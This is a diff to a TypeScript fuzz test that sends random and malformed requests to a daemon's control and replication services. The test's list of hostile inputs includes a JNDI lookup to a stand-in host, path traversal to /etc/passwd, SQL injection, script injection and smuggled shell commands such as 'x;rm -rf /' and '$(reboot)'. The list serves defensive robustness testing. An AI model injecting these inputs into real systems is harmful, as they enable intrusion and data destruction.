@@ -37,6 +37,7 @@ const pick = <T>(xs: readonly T[]): T => xs[int(xs.length)]!;
 const bytes = (n: number) => Buffer.from(Array.from({ length: n }, () => int(256)));
 
 const HOSTILE = [
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style probe, meant literally
   '../../../etc/passwd x', "' OR 1=1 -- ", '${jndi:ldap://evil/a} ', '%s%s%n%x ', 'a\u0000b c', 'line\nbreak x', '\u202e reversed',
   'emoji 🚀🔥', 'ǅ̶̡͓̜̅ combining', '<script>alert(1)</script> ', 'a b', ' ', '\t\r\n ', 'name with spaces', '-rf /',
   '$(reboot) ', '`id` ', 'x;rm -rf / ', '\\\\?\\C:\\ x', 'smtp://host:99999999 x', 'null ', 'undefined ', '-1 ', '1e309 ',
@@ -133,7 +134,7 @@ test(`${TOTAL} random and malformed requests: the daemon stays up, answers each,
   const controlMethods = definition['ferry.v1.ControlPlane']!;
   const replicationMethods = definition['ferry.v1.Replication']!;
   const names = Object.keys(controlMethods);
-  const garbageToken = () => pick(['fy_' + 'A'.repeat(32), 'Bearer', '', 'x'.repeat(600), 'fy_%00', badString().replace(/[^\x21-\x7e]/g, '') || 'q']);
+  const garbageToken = () => pick([`fy_${'A'.repeat(32)}`, 'Bearer', '', 'x'.repeat(600), 'fy_%00', badString().replace(/[^\x21-\x7e]/g, '') || 'q']);
   // Admin may send anything except the one request that is valid with every field empty: ReplicationOff.
   const tokenFor = (method: string): string => {
     const r = rnd();
